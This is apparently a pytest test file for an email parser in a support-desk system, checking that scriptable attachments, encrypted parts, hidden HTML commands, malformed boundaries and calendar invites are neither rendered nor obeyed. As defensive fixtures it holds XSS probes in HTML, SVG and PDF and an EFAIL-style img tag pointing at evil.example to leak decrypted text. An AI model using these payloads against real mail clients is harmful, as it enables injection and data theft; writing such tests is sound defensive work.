"""Parts that say two things, hide a third, or ask to be joined, fetched or answered."""

import base64

import pytest

from parsers.intent import commands
from parsers.mail import Kind, ParsedMail
from parsers.read import attachments, read
from parsers.verbs import Verb, Verbs
from tests.stories.stage import ANN, DANA, EMIL, SUPPORT, Desk, told
from tests.unit.parsers.test_mime import TNEF

VERBS = Verbs((Verb("close", ("close",)),))


def mail(*parts: bytes, subtype: bytes = b"mixed", boundary: bytes = b"b", more: bytes = b"") -> bytes:
    """A mail of Ann's with these parts, each with its own fields."""
    head = b"From: ann@acme.example\nTo: support@desk.example\nSubject: Tea\nMessage-ID: <1@acme.example>\n" + more
    kind = b'MIME-Version: 1.0\nContent-Type: multipart/%s; boundary="%s"\n\n' % (subtype, boundary)
    body = b"".join(b"--" + boundary + b"\n" + part + b"\n" for part in parts)
    return head + kind + body + b"--" + boundary + b"--\n"


def obeyed(raw: bytes) -> list[str]:
    """The commands of a mail."""
    return [command.name for command in commands(read(raw), VERBS)]


def named(raw: bytes) -> list[tuple[str, str]]:
    return [(attachment.filename, attachment.content_type) for attachment in read(raw).attachments]


HELLO = b"Content-Type: text/plain\n\nHello\n"
SCRIPT = b"<script>alert(1)</script>"
RUNS = {
    "page.html": (b"text/html", b"<html>" + SCRIPT),
    "drawing.svg": (b"image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
    "sheet.xml": (b"text/xml", b"<?xml-stylesheet href='x.xsl'?><x>" + SCRIPT + b"</x>"),
    "page.xhtml": (b"application/xhtml+xml", SCRIPT),
    "paper.pdf": (b"application/pdf", b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "code.js": (b"text/javascript", b"alert(1)"),
    "link.url": (b"application/internet-shortcut", b"[InternetShortcut]\nURL=javascript:alert(1)"),
    "page.mht": (b"message/rfc822", b"Content-Type: text/html\n\n" + SCRIPT),
}


@pytest.mark.parametrize("name", RUNS)
@pytest.mark.parametrize("disposition", ["attachment", "inline", "nonsense"])
def test_a_file_that_could_run_is_a_file(name: str, disposition: str) -> None:
    """case 118, P17 (RT CVE-2022-25802, Roundup CVE-2024-39126): never a part of what is shown, whatever it claims."""
    kind, data = RUNS[name]
    shown = f'; name="{name}"\nContent-Disposition: {disposition}; filename="{name}"\n\n'.encode()
    raw = mail(HELLO, b"Content-Type: " + kind + shown + data)
    found = read(raw)
    assert (found.text.strip(), found.html) == ("Hello", None)
    ((attachment, content),) = attachments(raw)
    assert (attachment.filename, attachment.content_type) == (name, kind.decode())
    assert content == data


CLEAR = b'Content-Type: text/html\n\n<img src="http://evil.example/?'
CLOSES = b'Content-Type: text/html\n\n">'
LOCKED = {
    "pgp": b"Content-Type: multipart/encrypted; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\n"
    b"Version: 1\n--e\nContent-Type: application/octet-stream; name=e.asc\n\nSEALED\n--e--\n",
    "s/mime": b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n\nSEALED\n",
}


@pytest.mark.parametrize("kind", LOCKED)
def test_what_is_encrypted_is_neither_opened_nor_joined_to_what_stands_around(kind: str) -> None:
    """case 119, P54 (EFAIL, CVE-2017-17688): an open tag before it holds none of its words."""
    raw = mail(CLEAR, LOCKED[kind], CLOSES)
    found = read(raw)
    assert "encrypted" in {defect.code for defect in found.defects}
    assert "SEALED" not in found.text + (found.html or "")
    assert any(content.strip() == b"SEALED" for _, content in attachments(raw))


KEPT = {
    "partial": (b"message/partial; id=x; number=1; total=2", "message/partial"),
    "external": (b"message/external-body; access-type=URL; URL=\"http://evil.example/\"", "message/external-body"),
    "winmail": (b"application/ms-tnef; name=winmail.dat", "application/ms-tnef"),
    "signed": (b"application/pkcs7-mime; name=smime.p7m", "application/pkcs7-mime"),
    "fork": (b"application/applefile", "application/applefile"),
    "binhex": (b"application/mac-binhex40", "application/mac-binhex40"),
    "outlook": (b"application/vnd.ms-outlook; name=letter.msg", "application/vnd.ms-outlook"),
}  # fmt: skip


@pytest.mark.parametrize("kind", KEPT)
@pytest.mark.parametrize("alone", [True, False])
def test_what_is_no_mail_of_ours_is_kept_and_neither_joined_nor_fetched(kind: str, alone: bool) -> None:
    """cases 120 and 126: a piece of a message, a pointer to one, and the formats of one program."""
    stated, word = KEPT[kind]
    data = b"Subject: inner\nFrom: dana@desk.example\n\n#close\n"
    part = b"Content-Type: " + stated + b"\n\n" + data
    raw = b"From: ann@acme.example\n" + part if alone else mail(HELLO, part)
    found = read(raw)
    assert [attachment.content_type for attachment in found.attachments] == [word]
    assert obeyed(raw) == []
    assert "#close" not in found.text


def test_both_forks_of_a_file_are_files() -> None:
    """case 120: of an appledouble the one is data, the other belongs to a system."""
    forks = b"Content-Type: multipart/appledouble; boundary=f\n\n"
    system = b"--f\nContent-Type: application/applefile; name=a.pdf\n\nx\n"
    raw = mail(HELLO, forks + system + b"--f\nContent-Type: application/pdf; name=a.pdf\n\ny\n--f--")
    assert named(raw) == [("a.pdf", "application/applefile"), ("a.pdf", "application/pdf")]


@pytest.mark.parametrize(
    ("plain", "markup", "shown", "disagree"),
    [
        (b"", b"<p>Hello</p>", "Hello", False),
        (b"  \n", b"<p>#close</p>", "#close", False),
        (b"#close", b"<p>Thank you</p>", "#close", True),
        (b"Thank you", b"<p>#close</p>", "Thank you", True),
        (b"Thank you", b"<p>Thank you</p><p style='font-size:0'>#close</p>", "Thank you", False),
        (b"#close", b"", "#close", False),
        (b"", b"", "", False),
    ],
)
def test_of_two_renderings_one_is_shown_and_only_if_they_agree_obeyed(
    plain: bytes, markup: bytes, shown: str, disagree: bool
) -> None:
    """case 124: no text, HTML only, and a text that says other than the HTML."""
    sides = (b"Content-Type: text/plain\n\n" + plain, b"Content-Type: text/html\n\n" + markup)
    found = read(mail(*sides, subtype=b"alternative"))
    assert found.text.strip() == shown
    assert found.commands_disagree is disagree


def test_an_empty_mail_is_a_mail() -> None:
    """case 124: without a body, without a blank line, without anything."""
    for raw in (b"From: ann@acme.example\n\n", b"From: ann@acme.example", b"From: ann@acme.example\n\n\n\n"):
        assert (read(raw).author, read(raw).text.strip()) == ("ann@acme.example", "")
    assert read(b"") == ParsedMail(defects=read(b"").defects)


PARTS = (b"Content-Type: text/plain\n\nHello\n", b"Content-Type: application/pdf; name=a.pdf\n\n#close")


@pytest.mark.parametrize("boundary", [b"", b"b" * 10_000, b"b b", b"=_(b)", b"b" * 71, b"'", b"-", b"--", b"\xff"])
def test_a_boundary_that_is_none_hides_nothing(boundary: bytes) -> None:
    """case 125: either the parts are found or all of it is there to read."""
    raw = mail(*PARTS, boundary=boundary)
    found = read(raw)
    assert "Hello" in found.text
    assert named(raw)[-1:] == [("a.pdf", "application/pdf")] or "#close" in found.text


@pytest.mark.parametrize(
    "raw",
    [
        b"#close\n--b\n\nHello\n--b--\n",
        b"--b\n\nHello\n--b--\n#close\n",
        b"--b\n\nHello\n--b--\n\n--c\nContent-Type: text/plain\n\n#close\n--c--\n",
        b"--b\nContent-Type: message/rfc822\n\nSubject: x\n\n#close\n--b\n\nHello\n--b--\n",
    ],
    ids=["preamble", "epilogue", "another behind", "message"],
)
def test_no_command_is_read_from_between_the_parts(raw: bytes) -> None:
    """case 125: what no mail program shows commands nothing."""
    head = b"From: ann@acme.example\nContent-Type: multipart/mixed; boundary=b\n\n"
    assert obeyed(head + raw) == []
    assert "Hello" in read(head + raw).text


def test_an_outer_boundary_that_an_inner_one_continues_is_told_apart() -> None:
    """case 125: and a missing last line loses nothing."""
    inner = (
        b'Content-Type: multipart/alternative; boundary="b-1"\n\n--b-1\n\nHello\n--b-1\nContent-Type: text/html\n\nHi\n'
    )
    raw = mail(inner, PARTS[1]).replace(b"--b--\n", b"")
    assert (read(raw).text.strip(), named(raw)) == ("Hello", [("a.pdf", "application/pdf")])


INVITATION = (
    b"Content-Type: text/calendar; method=REQUEST; charset=utf-8\n\n"
    b"BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\nSUMMARY:Tea\nDTSTART:20260401T150000Z\n"
    b"ORGANIZER:mailto:ann@acme.example\nATTENDEE;RSVP=TRUE:mailto:support@desk.example\nEND:VEVENT\nEND:VCALENDAR"
)
RECEIPTS = (
    b"Disposition-Notification-To: ann@acme.example\nReturn-Receipt-To: ann@acme.example\n"
    b"X-Confirm-Reading-To: ann@acme.example\nReturn-Receipt-Requested: yes\nGenerate-Delivery-Report: yes\n"
)


@pytest.mark.parametrize("raw", [mail(INVITATION), mail(HELLO, INVITATION), mail(HELLO, more=RECEIPTS)])
def test_nobody_is_told_that_a_mail_was_read_or_that_we_come(desk: Desk, raw: bytes) -> None:
    """case 127: the letters are those of any mail, and none speaks to a calendar or about a mail."""
    letters = desk.arrives(raw.replace(b"\n", b"\r\n"), ANN, SUPPORT)
    assert set(told(letters)) <= {ANN, DANA, EMIL}
    assert {DANA, EMIL} <= set(told(letters))
    for letter in letters:
        assert {part.get_content_type() for part in letter.message.walk()} <= {
            "multipart/alternative", "text/plain", "text/html", "multipart/mixed", "application/octet-stream"
        }  # fmt: skip
        assert b"text/calendar" not in letter.data
        assert b"Disposition-Notification" not in letter.data


def test_an_invitation_is_no_command() -> None:
    """case 127: whatever its summary says."""
    raw = mail(INVITATION.replace(b"SUMMARY:Tea", b"SUMMARY:#close"))
    assert read(raw).kind is Kind.CALENDAR
    assert obeyed(raw) == []


def test_a_winmail_that_holds_a_command_commands_nothing() -> None:
    """case 120: what we make into text was not written as one."""
    packed = base64.b64encode(bytes.fromhex(TNEF.replace(" ", "")))
    raw = mail(b"Content-Type: application/ms-tnef\nContent-Transfer-Encoding: base64\n\n" + packed)
    assert (named(raw), obeyed(raw)) == ([("a.txt", "application/octet-stream")], [])
